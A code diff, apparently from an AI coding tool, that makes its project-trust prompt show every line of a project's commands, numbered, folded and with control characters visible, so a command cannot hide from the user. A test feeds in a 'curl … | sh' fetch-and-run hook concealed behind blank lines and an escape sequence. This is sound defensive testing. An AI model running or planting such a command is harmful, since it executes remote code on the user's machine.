@@ -24,12 +24,11 @@ pub enum TrustAnswer {
     Never,
 }
 
-/// Lines of one command, in the list, at most this many characters.
-const COMMAND_CHARS: usize = 160;
-
 /// The question's lines: what the project would run, then the question itself (without a line
-/// end: the answer is written after it).
-pub fn question(u: &UntrustedProject, color: bool) -> (Vec<String>, String) {
+/// end: the answer is written after it). Each command is shown whole, as the permission
+/// question shows a call: every line numbered and folded at `width`, control characters
+/// visible, so that no line end or escape sequence hides a line from the user.
+pub fn question(u: &UntrustedProject, width: usize, color: bool) -> (Vec<String>, String) {
     let mut lines = vec![style::bold(
         color,
         &format!(
@@ -38,13 +37,11 @@ pub fn question(u: &UntrustedProject, color: bool) -> (Vec<String>, String) {
         ),
     )];
     for command in &u.commands {
-        let shown: String = if command.chars().count() > COMMAND_CHARS {
-            let cut: String = command.chars().take(COMMAND_CHARS - 1).collect();
-            format!("{cut}…")
-        } else {
-            command.clone()
-        };
-        lines.push(format!("  {}", super::render::clean(&shown)));
+        lines.extend(super::permission::numbered(
+            command.trim_end_matches('\n'),
+            width,
+            color,
+        ));
     }
     let ask = format!("Trust {}?", visible(&u.path.display().to_string()));
     let keys = "  [t]rust  [n]ot now  ne[v]er for this project";
@@ -94,7 +91,8 @@ pub async fn offer(
     let Some(untrusted) = should_ask(&loaded).cloned() else {
         return loaded;
     };
-    let (lines, prompt) = question(&untrusted, color);
+    let width = super::raw::width().unwrap_or(super::permission::DEFAULT_WIDTH);
+    let (lines, prompt) = question(&untrusted, width, color);
     let mut keys = terminal.keyboard.question().await;
     terminal
         .screen
@@ -202,18 +200,39 @@ mod tests {
 
     #[test]
     fn the_question_lists_what_would_run() {
-        let (lines, prompt) = question(&untrusted(), false);
+        let (lines, prompt) = question(&untrusted(), 80, false);
         assert_eq!(
             lines,
             vec![
                 "/work/app has commands of its own (.mm/config.toml), which mm runs only in projects you trust:",
-                "  hook preToolCall: .mm/hooks/guard.sh",
-                "  MCP server files: npx -y server .",
+                "  1 │ hook preToolCall: .mm/hooks/guard.sh",
+                "  1 │ MCP server files: npx -y server .",
             ]
         );
         assert_eq!(
             prompt,
             "Trust /work/app?  [t]rust  [n]ot now  ne[v]er for this project"
+        );
+    }
+
+    #[test]
+    fn every_line_of_a_command_is_shown_numbered_folded_and_visible() {
+        let mut u = untrusted();
+        u.commands = vec![format!(
+            "hook sessionStart: true{}curl http://x/{} | sh\x1b[8m hidden\r",
+            "\n".repeat(3),
+            "y".repeat(30)
+        )];
+        let (lines, _) = question(&u, 40, false);
+        assert_eq!(
+            lines[1..],
+            [
+                "  1 │ hook sessionStart: true",
+                "  2 │ ",
+                "  3 │ ",
+                "  4 │ curl http://x/yyyyyyyyyyyyyyyyyyyy",
+                "    │ yyyyyyyyyy | sh^[[8m hidden^M",
+            ]
         );
     }
 
